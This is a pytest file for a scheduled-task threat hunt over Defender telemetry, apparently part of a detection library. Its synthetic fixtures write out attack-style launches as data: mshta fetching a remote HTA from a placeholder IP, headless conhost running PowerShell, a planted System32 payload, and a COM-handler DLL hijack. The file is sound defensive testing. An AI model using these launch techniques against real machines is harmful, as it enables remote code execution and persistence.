"""The published and extended scopes: which Task Scheduler launches the hunt looks at.

One small fleet holds every launch path the published query cannot see (taskeng.exe, the grouped
svchost with its guards, System32 LOLBins, a payload in a user-writable System32 folder,
conhost --headless, MpCmdRun.exe away from Defender's folders, the Schedule host written another
way), Defender aggregated reports, and System32 task hosts with and without a host tripwire. The
local engine, the rendered KQL (run by duckdb-kql) and the parquet scan must agree on it.
"""

from __future__ import annotations

import warnings

import pandas as pd
import pytest

from hunting_lib.engine.fast_load import load_for_hunt
from hunting_lib.engine.loader import load_data_folder
from hunting_lib.engine.scope import scoped_task_starts
from hunting_lib.hunt import hunt_columns, run_hunt
from hunting_lib.params import HuntParams
from hunting_lib.remote.kql import render_hunt_kql, render_rare_tasks_kql
from tests.conftest import T0, activity, oracle, task_start, typed

TASKENG = r"taskeng.exe {6F1A2B3C-1111-2222-3333-444455556666} S-1-5-18:NT AUTHORITY\System:Service:"
GROUPED = "svchost.exe -k netsvcs -p"
SYSTEM32 = "C:\\Windows\\System32\\"
TASKHOSTW = ("taskhostw.exe", "taskhostw.exe", SYSTEM32 + "taskhostw.exe")
HIJACK_DLL = r"C:\Users\bob\AppData\Roaming\Vendor\cache.dll"


def launches() -> list[dict]:
    rows = [
        # Windows 7: the Task Scheduler engine starts the task.
        task_start("cmd.exe", r"cmd.exe /c C:\ProgramData\Sync\run.bat", SYSTEM32 + "cmd.exe", device="w7",
                   pid=11, parent_file_name="taskeng.exe", parent_command_line=TASKENG),
        # A small VDI machine: the grouped host; consent.exe there is Appinfo's, never a task.
        task_start("sync.exe", "sync.exe --quiet", r"C:\Tools\sync.exe", device="vdi-1", pid=21,
                   parent_command_line=GROUPED),
        task_start("consent.exe", "consent.exe 1234 312 0000", SYSTEM32 + "consent.exe", device="vdi-1", pid=22,
                   parent_command_line=GROUPED),
        # A big machine runs the Schedule service on its own: its grouped host starts no tasks.
        task_start("sync.exe", "sync.exe --quiet", r"C:\Tools\sync.exe", device="pc-big", pid=31,
                   parent_command_line=GROUPED),
        task_start("dcu.exe", "dcu.exe /scan", r"C:\Program Files\Dell\dcu.exe", device="pc-big", pid=32),
        # System32 programs the published query drops.
        task_start("mshta.exe", "mshta.exe http://198.51.100.7/a.hta", SYSTEM32 + "mshta.exe", device="pc-1", pid=41),
        task_start("ipconfig.exe", "ipconfig.exe", SYSTEM32 + "ipconfig.exe", device="pc-1", pid=47, account="alice"),
        task_start("conhost.exe", "conhost.exe --headless powershell -c Get-Date", SYSTEM32 + "conhost.exe",
                   device="pc-1", pid=42),
        task_start("conhost.exe", "conhost.exe 0xffffffff -ForceV1", SYSTEM32 + "conhost.exe", device="pc-1", pid=43),
        task_start("svc.exe", "svc.exe", SYSTEM32 + r"spool\drivers\color\svc.exe", device="pc-1", pid=44),
        task_start("MpCmdRun.exe", "MpCmdRun.exe -Scan", r"C:\Users\bob\AppData\Local\Temp\MpCmdRun.exe",
                   device="pc-1", pid=45),
        task_start("MpCmdRun.exe", "MpCmdRun.exe -IdleTask",
                   r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1-0\MpCmdRun.exe", device="pc-1", pid=46),
        # The Schedule service's command line written with its path and another case.
        task_start("odd.exe", "odd.exe", r"C:\Tools\odd.exe", device="pc-2", pid=51,
                   parent_command_line=r"C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s schedule"),
        # System32 task hosts: one loads a DLL from a user's folder (a COM handler hijack), one a
        # System32 DLL, one Defender's DLL from its protected ProgramData folder.
        task_start(*TASKHOSTW, device="pc-4", pid=700, minutes=5),
        task_start(*TASKHOSTW, device="pc-4", pid=701, minutes=6),
        task_start(*TASKHOSTW, device="pc-4", pid=702, minutes=7),
        task_start("consent.exe", "consent.exe 1 2 3", SYSTEM32 + "consent.exe", device="vdi-1", pid=23,
                   parent_command_line=GROUPED, minutes=8),
    ]
    aggregated = task_start("agg.exe", "agg.exe", r"C:\Tools\agg.exe", device="pc-3", pid=61)
    aggregated.update(ActionType="ProcessCreatedAggregatedReport", AdditionalFields='{"uniqueEventsAggregated":5}')
    single = task_start("one.exe", "one.exe", r"C:\Tools\one.exe", device="pc-3", pid=62)
    single.update(AdditionalFields="{}")
    return rows + [aggregated, single]


def loads() -> list[dict]:
    def load(pid: int, path: str, minutes: int) -> dict:
        return activity(*TASKHOSTW, pid=pid, device="pc-4", action="ImageLoaded", minutes=minutes + 1,
                        created_minutes=minutes, FileName=path.rsplit("\\", 1)[-1], FolderPath=path)
    return [load(700, HIJACK_DLL, 5), load(701, SYSTEM32 + "msxml6.dll", 6),
            load(702, r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1-0\MpOav.dll", 7),
            activity("consent.exe", "consent.exe 1 2 3", SYSTEM32 + "consent.exe", pid=23, device="vdi-1",
                     action="ImageLoaded", minutes=9, created_minutes=8, FileName="x.dll",
                     FolderPath=r"C:\Users\bob\x.dll")]


def fleet() -> dict[str, pd.DataFrame]:
    network = [activity("mshta.exe", "mshta.exe http://198.51.100.7/a.hta", SYSTEM32 + "mshta.exe", pid=41,
                        device="pc-1", RemoteIP="198.51.100.7")]
    return {"DeviceProcessEvents": typed("DeviceProcessEvents", launches()),
            "DeviceImageLoadEvents": typed("DeviceImageLoadEvents", loads()),
            "DeviceNetworkEvents": typed("DeviceNetworkEvents", network)}


def hunt(params: HuntParams):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return run_hunt(fleet(), params)


def in_scope_by(params: HuntParams) -> dict[tuple[str, str], str]:
    starts = scoped_task_starts(fleet()["DeviceProcessEvents"], params).in_scope
    return {(r.DeviceName, r.FileName): r.InScopeBy for r in starts.itertuples()}


def test_the_extended_scope_takes_each_launch_path_and_says_why():
    assert in_scope_by(HuntParams()) == {
        ("w7", "cmd.exe"): "taskeng",
        ("vdi-1", "sync.exe"): "grouped_svchost",
        ("pc-big", "dcu.exe"): "published",
        ("pc-1", "mshta.exe"): "system32_lolbin",
        ("pc-1", "ipconfig.exe"): "system32_recon",
        ("pc-1", "conhost.exe"): "headless_conhost",
        ("pc-1", "svc.exe"): "user_writable_system32",
        ("pc-1", "MpCmdRun.exe"): "scanner_outside_home",
        ("pc-2", "odd.exe"): "host_variant",
        ("pc-3", "agg.exe"): "published",
        ("pc-3", "one.exe"): "published",
    }


def test_the_published_scope_is_the_seeds_own():
    assert set(in_scope_by(HuntParams(scope="published"))) == {("pc-big", "dcu.exe"), ("pc-3", "agg.exe"),
                                                               ("pc-3", "one.exe")}


def test_aggregated_reports_count_as_the_events_they_stand_for():
    extended = hunt(HuntParams(exclusions=None, known_tasks=None)).rare_tasks
    assert "agg.exe" not in set(extended["FileName"])  # 5 launches: not rare
    published = hunt(HuntParams.published()).rare_tasks
    assert published.set_index("FileName").loc["agg.exe", "Count"] == 1  # the published count() counts rows
    assert hunt(HuntParams()).fleet.aggregated_reports == 1


def test_a_host_tripwire_brings_in_only_the_process_that_fired_it():
    result = hunt(HuntParams())
    hosts = result.rare_tasks[result.rare_tasks["RareBy"] == "tripwire"]
    assert hosts["FileName"].tolist() == ["taskhostw.exe"]  # not consent.exe: the grouped host's guard
    (row,) = hosts.itertuples()
    assert row.Count == 1 and row.HostTripwires == ["host_user_writable_dll"]
    assert "host_tripwire" in row.Tripwires and row.Critical and row.SuppressedBy is None
    assert "T1546.015" in row.ReasonTechniques
    mine = result.activity_rows[result.activity_rows["TaskId"] == row.TaskId]
    assert mine["FolderPath"].tolist() == [HIJACK_DLL]  # pids 701 and 702 are not part of it
    assert result.rare_tasks.index[result.rare_tasks["TaskId"] == row.TaskId][0] < len(result.findings)


def test_the_scope_shows_as_reasons():
    rare = hunt(HuntParams(exclusions=None, known_tasks=None)).rare_tasks.set_index("FileName")
    assert "launched_by_taskeng" in rare.loc["cmd.exe", "Reasons"]
    assert "launched_by_grouped_svchost" in rare.loc["sync.exe", "Reasons"]
    assert "system32_lolbin" in rare.loc["mshta.exe", "Reasons"]
    assert "system32_recon" in rare.loc["ipconfig.exe", "Reasons"]
    assert "user_writable_system32" in rare.loc["svc.exe", "Reasons"]
    assert "scanner_outside_home" in rare.loc["MpCmdRun.exe", "Reasons"]
    assert rare.loc["cmd.exe", "TaskHosts"] == ["taskeng"]


duckdb_kql = oracle("duckdb_kql", "duckdb-kql needs Python 3.11+")


@pytest.mark.parametrize("scope", ["published", "extended"])
@pytest.mark.parametrize("options", [dict(), dict(threshold=1), dict(max_devices=1),
                                     dict(start=(T0 + pd.Timedelta(minutes=5)).isoformat())])
def test_the_rendered_kql_agrees_with_the_local_engine(scope, options):
    from tests.kql_reference import connect_frames

    params = HuntParams(scope=scope, exclusions=None, known_tasks=None, **options)
    local = hunt(params)
    con = connect_frames(fleet())
    groups = duckdb_kql.kql(con, render_rare_tasks_kql(params)).df()
    assert {(r.FileName, r.ProcessCommandLine, r.FolderPath, int(r.count_), r.RareBy) for r in groups.itertuples()} == \
        {(r.FileName, r.ProcessCommandLine, r.FolderPath, int(r.Count), r.RareBy) for r in local.rare_tasks.itertuples()}
    summary = duckdb_kql.kql(con, render_hunt_kql(params)).df()
    assert sorted(zip(summary["DeviceName"], summary["InitiatingProcessId"].astype(int))) == sorted(
        zip(local.activity["DeviceName"], local.activity["InitiatingProcessId"].astype(int)))
    if scope == "extended" and not options:
        assert (summary["InitiatingProcessId"] == 700).any()  # the hijacked task host's own events


@pytest.mark.parametrize("scope", ["published", "extended"])
def test_the_parquet_scan_agrees_with_the_full_load(tmp_path, scope):
    for table, frame in fleet().items():
        frame.to_parquet(tmp_path / f"{table}.parquet", index=False)
    params = HuntParams(scope=scope)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        scanned = load_for_hunt(tmp_path, params, hunt_columns())
        assert scanned.complete is False  # the scan ran
        # run_hunt(path) reads a parquet folder through the scan too: the full load, explicitly
        fast, full = run_hunt(scanned, params), run_hunt(load_data_folder(tmp_path, columns=hunt_columns()), params)
    columns = ["FileName", "ProcessCommandLine", "FolderPath", "Count", "RareBy", "Score", "Tripwires",
               "SuppressedBy"]
    pd.testing.assert_frame_equal(fast.rare_tasks[columns], full.rare_tasks[columns])
    assert sorted(fast.activity_rows["ReportId"].dropna()) == sorted(full.activity_rows["ReportId"].dropna())
    assert fast.fleet.devices == full.fleet.devices
    assert fast.fleet.task_devices.sort_index().equals(full.fleet.task_devices.sort_index())
